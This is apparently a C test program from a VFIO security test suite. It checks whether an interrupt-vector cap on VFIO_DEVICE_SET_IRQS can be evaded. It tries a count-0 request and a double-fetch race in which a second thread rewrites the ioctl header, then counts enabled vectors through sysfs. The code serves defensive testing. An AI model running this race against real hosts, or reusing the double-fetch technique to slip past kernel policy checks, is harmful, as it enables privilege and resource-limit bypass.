// SPDX-License-Identifier: GPL-2.0
/*
 * race-setirqs: a policy caps the vectors a user may arm on an interrupt
 * index (interrupts: { msix: CAP }).  Two ways past a judge that reads the
 * caller's VFIO_DEVICE_SET_IRQS header and lets vfio-pci-core read it
 * again, or that counts only hdr.count:
 *
 *  - count 0 with DATA_EVENTFD and start N: the core enables N vectors
 *    (vfio_msi_enable(start + count)) and arms none; a judge that takes
 *    count 0 for a teardown lets it through.  One thread, each N > CAP.
 *  - a double fetch: one thread issues SET_IRQS (ACTION_TRIGGER |
 *    DATA_EVENTFD, start 0, count 1: allowed) from a buffer in which
 *    another thread keeps flipping (start, count) to pairs beyond the cap.
 *
 * After every successful call the vectors the kernel allocated for the
 * device are counted in /sys/bus/pci/devices/BDF/msi_irqs/; more than CAP
 * is a violation.  The index is torn down (DATA_NONE, count 0) after each.
 */
#include <argp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/eventfd.h>

#include "race.h"

#define MAX_FDS 32

static struct env {
	const char *bdf;
	unsigned int index;
	unsigned int cap;
	long calls;
} env = {
	.index = VFIO_PCI_MSIX_IRQ_INDEX,
	.cap = 1,
	.calls = 10000,
};

struct irq_buf {
	struct vfio_irq_set hdr;
	int32_t fds[MAX_FDS];
};

/* The header both threads share: the issuer's ioctl argument. */
static struct irq_buf shared __attribute__((aligned(64)));
static volatile bool done;
static unsigned int nirqs;

struct pair {
	uint32_t start, count;
};

/* Forbidden (start, count) pairs, filled in for the device's vector count. */
static struct pair bad[8];
static unsigned int nbad;

static void *flipper(void *arg)
{
	volatile uint32_t *start = &shared.hdr.start, *count = &shared.hdr.count;
	unsigned int i = 0;

	/*
	 * Count first, then start, and back the same way: every pair the
	 * kernel can catch in between is in range (start + count <= nirqs),
	 * so the core accepts it and only the policy stands in the way.
	 */
	while (!done) {
		const struct pair *p = &bad[i++ % nbad];

		*count = p->count;
		*start = p->start;
		*count = 1;
		*start = 0;
	}
	return NULL;
}

static int teardown(struct race_dev *d)
{
	struct vfio_irq_set off = {
		.argsz = sizeof(off),
		.flags = VFIO_IRQ_SET_DATA_NONE | VFIO_IRQ_SET_ACTION_TRIGGER,
		.index = env.index,
	};

	return ioctl(d->device, VFIO_DEVICE_SET_IRQS, &off);
}

/* count 0 with eventfds: asks for `start` vectors without arming any. */
static int zero_count(struct race_dev *d)
{
	int worst = 0;

	for (unsigned int start = env.cap + 1; start < nirqs; start++) {
		struct vfio_irq_set set = {
			.argsz = sizeof(set),
			.flags = VFIO_IRQ_SET_DATA_EVENTFD | VFIO_IRQ_SET_ACTION_TRIGGER,
			.index = env.index,
			.start = start,
			.count = 0,
		};
		int ret = ioctl(d->device, VFIO_DEVICE_SET_IRQS, &set);
		int err = ret ? errno : 0;
		int n = race_msi_vectors(d->bdf);

		race_fact("zero_count", "start %u: %s, %d vectors", start,
			  ret ? strerror(err) : "ok", n);
		race_verdict(n >= 0 && n <= (int)env.cap,
			     "setirqs count=0 start=%u: %d vectors enabled, cap %u (sysfs msi_irqs)",
			     start, n, env.cap);
		if (n > worst)
			worst = n;
		teardown(d);
	}
	return worst;
}

static int attack(struct race_dev *d)
{
	long violations = 0, ok = 0, denied = 0, other = 0, i;
	int n, most = 0, failed = race_failed;
	pthread_t t;
	double t0;

	/* Unraced first: the cap must be in force and count 1 allowed. */
	shared.hdr.start = 0;
	shared.hdr.count = nirqs;
	n = ioctl(d->device, VFIO_DEVICE_SET_IRQS, &shared) ? errno : 0;
	teardown(d);
	race_verdict(n == EPERM, "setirqs: the policy refuses %u vectors (%s)",
		     nirqs, n ? strerror(n) : "allowed");
	shared.hdr.count = 1;
	n = ioctl(d->device, VFIO_DEVICE_SET_IRQS, &shared) ? errno : 0;
	race_verdict(!n && race_msi_vectors(d->bdf) == 1,
		     "setirqs: 1 vector allowed and enabled (%s, sysfs %d)",
		     n ? strerror(n) : "ok", race_msi_vectors(d->bdf));
	teardown(d);
	if (race_failed > failed)
		return 1;	/* no policy in force: a race would prove nothing */

	if (pthread_create(&t, NULL, flipper, NULL)) {
		fprintf(stderr, "pthread_create failed\n");
		return 2;
	}
	t0 = race_now();
	for (i = 0; i < env.calls && !race_stop; i++) {
		if (ioctl(d->device, VFIO_DEVICE_SET_IRQS, &shared)) {
			if (errno == EPERM)
				denied++;
			else
				other++;
			continue;
		}
		ok++;
		n = race_msi_vectors(d->bdf);
		if (n > (int)env.cap)
			violations++;
		if (n > most)
			most = n;
		if (teardown(d)) {
			fprintf(stderr, "teardown: %s\n", strerror(errno));
			break;
		}
	}
	done = true;
	pthread_join(t, NULL);

	race_fact("calls", "%ld", i);
	race_fact("allowed", "%ld", ok);
	race_fact("denied", "%ld", denied);
	race_fact("other_errors", "%ld", other);
	race_fact("violations", "%ld", violations);
	race_fact("most_vectors", "%d", most);
	race_fact("seconds", "%.1f", race_now() - t0);
	race_verdict(i == env.calls && ok > 0,
		     "setirqs race: %ld of %ld racing calls ran, %ld allowed, %ld denied",
		     i, env.calls, ok, denied);
	race_verdict(!violations,
		     "setirqs race: %ld of %ld racing SET_IRQS enabled more than %u vectors (up to %d; sysfs msi_irqs)",
		     violations, i, env.cap, most);
	return race_failed ? 1 : 0;
}

static const struct argp_option options[] = {
	{ "calls", 'n', "N", 0, "racing SET_IRQS calls (default 10000)", 0 },
	{ "cap", 'c', "N", 0, "vectors the policy allows (default 1)", 0 },
	{ "msi", 'M', NULL, 0, "race MSI instead of MSI-X", 0 },
	{ "verbose", 'v', NULL, 0, "verbose debug output", 0 },
	{},
};

static error_t parse_arg(int key, char *arg, struct argp_state *state)
{
	switch (key) {
	case 'n': env.calls = race_number("count", arg); break;
	case 'c': env.cap = race_number("cap", arg); break;
	case 'M': env.index = VFIO_PCI_MSI_IRQ_INDEX; break;
	case 'v': race_verbose = true; break;
	case ARGP_KEY_ARG:
		if (env.bdf)
			argp_usage(state);
		env.bdf = arg;
		break;
	case ARGP_KEY_END:
		if (!env.bdf)
			argp_usage(state);
		break;
	default:
		return ARGP_ERR_UNKNOWN;
	}
	return 0;
}

static const struct argp argp = {
	.options = options,
	.parser = parse_arg,
	.args_doc = "BDF",
	.doc = "Race VFIO_DEVICE_SET_IRQS against a flipping header; count the\n"
	       "vectors the kernel enabled beyond the policy's cap (sysfs).\v"
	       "EXAMPLES:\n"
	       "  race-setirqs -c 1 0000:00:16.0   # igb VF, policy interrupts: { msix: 1 }\n",
};

/*
 * The vectors the device really has, from its MSI or MSI-X capability as
 * sysfs reads it: an attacker asks for those, whatever the policy lets
 * VFIO_DEVICE_GET_IRQ_INFO report (it shows at most the cap).
 */
static unsigned int device_vectors(struct race_dev *d, unsigned int index)
{
	uint8_t id = index == VFIO_PCI_MSIX_IRQ_INDEX ? 0x11 : 0x05, pos = 0, hdr[2];
	uint16_t flags;

	if (race_sysfs_config(d, 0x34, &pos, 1))
		return 0;
	for (int hops = 0; pos >= 0x40 && hops < 48; hops++) {
		if (race_sysfs_config(d, pos & ~3u, hdr, 2))
			return 0;
		if (hdr[0] == id) {
			if (race_sysfs_config(d, (pos & ~3u) + 2, &flags, 2))
				return 0;
			return id == 0x11 ? (flags & 0x7ff) + 1u : 1u << ((flags >> 1) & 7);
		}
		pos = hdr[1];
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct race_dev d;
	int ret;

	if (argp_parse(&argp, argc, argv, 0, NULL, NULL))
		return 2;
	race_signals();
	if (race_open(&d, env.bdf)) {
		ret = 2;
		goto out;
	}
	nirqs = device_vectors(&d, env.index);
	race_fact("vectors", "%u on index %u (GET_IRQ_INFO says %u), cap %u", nirqs,
		  env.index, d.irq[env.index].count, env.cap);
	if (nirqs <= env.cap + 1 || nirqs > MAX_FDS) {
		fprintf(stderr, "%s: index %u has %u vectors: need more than cap + 1 = %u\n",
			env.bdf, env.index, nirqs, env.cap + 1);
		ret = 2;
		goto out;
	}
	for (unsigned int i = 0; i < nirqs; i++) {
		shared.fds[i] = eventfd(0, EFD_CLOEXEC);
		if (shared.fds[i] < 0) {
			fprintf(stderr, "eventfd: %s\n", strerror(errno));
			ret = 2;
			goto out;
		}
	}
	/* Pairs beyond the cap, each start + count within the device's vectors. */
	for (unsigned int s = 0; s < nirqs && nbad < sizeof(bad) / sizeof(bad[0]); s++)
		for (unsigned int c = nirqs - s; c >= 1 && nbad < sizeof(bad) / sizeof(bad[0]); c--)
			if (s + c > env.cap)
				bad[nbad++] = (struct pair){ s, c };
	shared.hdr = (struct vfio_irq_set){
		.argsz = sizeof(shared.hdr) + nirqs * sizeof(int32_t),
		.flags = VFIO_IRQ_SET_DATA_EVENTFD | VFIO_IRQ_SET_ACTION_TRIGGER,
		.index = env.index,
		.start = 0,
		.count = 1,
	};
	teardown(&d);
	ret = zero_count(&d) > (int)env.cap ? 1 : 0;
	ret = attack(&d) ?: ret;
out:
	race_close(&d);
	return ret;
}
